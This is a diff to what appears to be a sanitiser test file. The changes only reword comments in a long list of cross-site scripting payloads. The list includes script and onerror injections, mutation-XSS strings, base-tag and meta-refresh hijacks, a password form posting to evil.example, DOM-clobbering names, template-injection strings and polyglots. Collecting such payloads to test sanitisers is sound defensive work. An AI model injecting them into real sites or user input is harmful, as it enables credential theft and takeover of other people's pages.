@@ -2,9 +2,9 @@ const run = "alert(1)";
 const script = `<script>${run}</script>`;
 const picture = `<img src=x onerror=${run}>`;
 
-/** What goes in by a side door: tags of old, tags that parsers read differently, other languages. */
+/** Unusual attacks: old tags, tags that parsers read differently, other template languages. */
 export const handmade: readonly string[] = [
-  // Scripts as such
+  // Scripts
   script,
   `<SCRIPT>${run}</SCRIPT>`,
   `<script >${run}</script >`,
@@ -48,7 +48,7 @@ export const handmade: readonly string[] = [
   `</${script}`,
   `<//${script}`,
 
-  // Read one way when cleaned and another way when shown
+  // Read one way by the sanitiser and another way by the browser
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${picture}">`,
   `<math><mtext><table><mglyph><style><math>${picture}`,
   `<svg></p><style><a id="</style>${picture}">`,
@@ -105,7 +105,7 @@ export const handmade: readonly string[] = [
   `<portal src=https://evil.example></portal>`,
   `<fencedframe src=https://evil.example></fencedframe>`,
 
-  // The page itself
+  // Attacks on the page itself
   `<base href=https://evil.example/>`,
   `<base target=_parent>`,
   `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
@@ -137,7 +137,7 @@ export const handmade: readonly string[] = [
   `<p style="position:fixed;inset:0;z-index:99999">p</p>`,
   `<div style="content:'</style>${picture}'">d</div>`,
 
-  // Forms that ask for secrets
+  // Forms that request secrets
   `<form action=https://evil.example><input name=password type=password><button>OK</button></form>`,
   `<form id=x></form><button form=x formaction=javascript:${run}>b</button>`,
   `<button formaction=javascript:${run}>b</button>`,
@@ -146,7 +146,7 @@ export const handmade: readonly string[] = [
   `<isindex action=javascript:${run} type=submit value=x>`,
   `<label for=password>${picture}</label>`,
 
-  // Names that shadow the page's own
+  // Names that shadow properties of the page
   `<form id=document><input name=cookie></form>`,
   `<img name=body><img name=getElementById>`,
   `<a id=config></a><a id=config name=url href=https://evil.example>a</a>`,
@@ -180,7 +180,7 @@ export const handmade: readonly string[] = [
   `<table background=javascript:${run}><tr><td>t</td></tr></table>`,
   `<td background=https://evil.example/x>`,
 
-  // Other languages that a page might speak
+  // Template languages
   `{{constructor.constructor('${run}')()}}`,
   `{{7*7}}\${7*7}<%= 7*7 %>#{7*7}`,
   `<div ng-app>{{$eval.constructor('${run}')()}}</div>`,
@@ -199,7 +199,7 @@ export const handmade: readonly string[] = [
   `<a href=https://a.example target=_self rel=opener>a</a>`,
   `<a href="https://a.example" download=x.exe>a</a>`,
 
-  // Many doors at once
+  // Many attacks at once
   `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${run} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${run}//>\\x3e`,
   `'">><marquee><img src=x onerror=${run}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${run}><script>${run}</script>@gmail.com<isindex formaction=javascript:${run} type=submit>'-->"></script>`,
   `">'><details/open/ontoggle=${run}>`,
